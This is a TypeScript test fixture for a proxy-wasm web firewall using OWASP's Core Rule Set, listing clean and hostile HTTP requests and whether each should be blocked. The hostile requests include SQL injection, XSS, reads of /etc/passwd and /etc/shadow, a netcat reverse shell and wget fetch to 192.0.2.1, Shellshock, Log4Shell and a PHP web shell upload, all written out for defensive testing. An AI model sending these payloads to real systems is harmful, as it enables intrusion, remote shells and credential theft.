import type { CaseAnswer, CaseRequest } from "../conformance/proxy-wasm/format.ts";
import type { HeardMessage } from "../conformance/proxy-wasm/wire.ts";

/** Requests to a firewall with OWASP's Core Rule Set at its first paranoia level, and what it does with each. */
export interface WafRequest extends CaseRequest {
  readonly name: string;
  /** What it answers instead of the upstream: 403. Otherwise the upstream's 200 comes through. */
  readonly blocked: boolean;
}

const browser: readonly (readonly [string, string])[] = [
  ["user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"],
  ["accept", "text/html,application/xhtml+xml,*/*;q=0.8"],
];
const get = (name: string, blocked: boolean, path: string, headers: CaseRequest["headers"] = []): WafRequest => ({
  name,
  blocked,
  path,
  headers: [...browser, ...headers],
});
const post = (name: string, blocked: boolean, type: string, body: string): WafRequest => ({
  ...get(name, blocked, `/post`, [["content-type", type]]),
  method: "POST",
  body,
});
const FORM = "application/x-www-form-urlencoded";
const JSON_TYPE = "application/json";
const MULTIPART = "multipart/form-data; boundary=edge";
const part = (head: string, text: string): string =>
  `--edge\r\ncontent-disposition: form-data; ${head}\r\n\r\n${text}\r\n--edge--\r\n`;

export const WAF_REQUESTS: readonly WafRequest[] = [
  get("clean: a page", false, "/shop"),
  get("clean: arguments", false, "/shop?id=42&sort=price&q=red+shoes"),
  get("clean: other letters", false, "/shop?q=%C3%9Cbergr%C3%B6%C3%9Fe"),
  get("clean: a cookie and a referer", false, "/shop", [
    ["cookie", "session=0123456789abcdef; theme=dark"],
    ["referer", "http://example.test/start"],
  ]),
  get("clean: words of SQL in a sentence", false, "/search?q=select+a+table+from+our+catalogue"),
  post("clean: a form", false, FORM, "name=Ann&comment=It%27s+nice"),
  post("clean: JSON", false, JSON_TYPE, '{"name":"Ann","items":[1,2,3],"note":"thank you"}'),
  post("clean: multipart", false, MULTIPART, part('name="note"', "a short text")),
  post("clean: a file", false, MULTIPART, part('name="file"; filename="note.txt"', "a short text")),
  get("SQL injection: a tautology", true, "/shop?id=1%27%20OR%20%271%27=%271%27%20--%20"),
  get("SQL injection: union", true, "/shop?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
  get("SQL injection: sleep", true, "/shop?id=1;SELECT%20pg_sleep(10)--"),
  get("SQL injection: in a cookie", true, "/shop", [["cookie", "id=1' UNION SELECT password FROM users--"]]),
  post("SQL injection: in a form", true, FORM, "user=admin%27%20OR%201%3D1--%20&password=x"),
  post("SQL injection: in JSON", true, JSON_TYPE, `{"user":{"name":"admin' OR 1=1-- "}}`),
  post("SQL injection: in multipart", true, MULTIPART, part('name="user"', "admin' UNION SELECT 1,2,3 FROM users-- ")),
  get("XSS: a script", true, "/shop?q=%3Cscript%3Ealert(1)%3C/script%3E"),
  get("XSS: an image's handler", true, "/shop?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E"),
  get("XSS: a javascript URL", true, "/shop?next=javascript:alert(1)//%0Aeval(name)"),
  post("XSS: in a form", true, FORM, "comment=%3Csvg%2Fonload%3Dalert(1)%3E"),
  post("XSS: in JSON", true, JSON_TYPE, '{"comment":"<iframe src=javascript:alert(1)>"}'),
  get("XSS: in the referer", true, "/shop", [["referer", "http://example.test/<script>alert(1)</script>"]]),
  get("LFI: up to the passwords", true, "/shop?file=../../../../etc/passwd"),
  get("LFI: encoded twice", true, "/shop?file=..%252f..%252f..%252fetc%252fpasswd"),
  get("LFI: a file of the system", true, "/shop?file=/etc/shadow"),
  get("LFI: in the path", true, "/static/.htaccess"),
  get("LFI: a file that is not for them", true, "/.git/config"),
  get("RFI: an address", true, "/shop?page=http://192.0.2.1/shell.txt?"),
  get("RCE: a shell's command", true, "/shop?host=127.0.0.1;cat%20/etc/passwd"),
  get("RCE: a substitution", true, "/shop?host=$(wget%20http://192.0.2.1/x%20-O-)"),
  post("RCE: in a form", true, FORM, "cmd=%7C%2Fbin%2Fbash%20-c%20id"),
  post("RCE: in JSON", true, JSON_TYPE, '{"cmd":"; /bin/nc -e /bin/sh 192.0.2.1 4444"}'),
  get("RCE: Shellshock", true, "/shop", [["x-probe", "() { :; }; /bin/cat /etc/passwd"]]),
  get("RCE: Log4Shell", true, "/shop", [["x-api-version", "\u0024{jndi:ldap://192.0.2.1/a}"]]),
  post("PHP: code", true, FORM, "q=%3C%3Fphp+system(%24_GET%5B1%5D)%3B+%3F%3E"),
  post(
    "PHP: a file with another's name",
    true,
    MULTIPART,
    part('name="file"; filename="shell.php"', "<?php eval($_POST[1]); ?>"),
  ),
  get("a scanner", true, "/shop", [["user-agent", "sqlmap/1.9"]]),
  { ...get("a method that is not allowed", true, "/shop"), method: "DELETE" },
  get("a header that splits the answer", true, "/shop?next=x%0d%0aSet-Cookie:%20a=b%0d%0a"),
  post("JSON that is none", false, JSON_TYPE, '{"name": '),
  get("a field of the answer", true, "/leak/field"),
  get("the answer is a failure without a body", false, "/fails"),
];

/** What the answer to this one says in its body no answer may; a head is out by then, so its body is cut. */
export const LEAK = get("the body of the answer", false, "/leak/body");

/** The upstream. */
export function answerOf({ line }: HeardMessage): CaseAnswer {
  const path = line.split(" ")[1] ?? "";
  const page = (body: string): CaseAnswer => ({ headers: [["content-type", "text/html"]], body });
  if (path === "/leak/field")
    return {
      ...page("hello"),
      headers: [
        ["content-type", "text/html"],
        ["x-secret", "yes"],
      ],
    };
  if (path === "/leak/body") return page("this is top secret");
  if (path === "/fails") return { status: 503 };
  return page("hello");
}
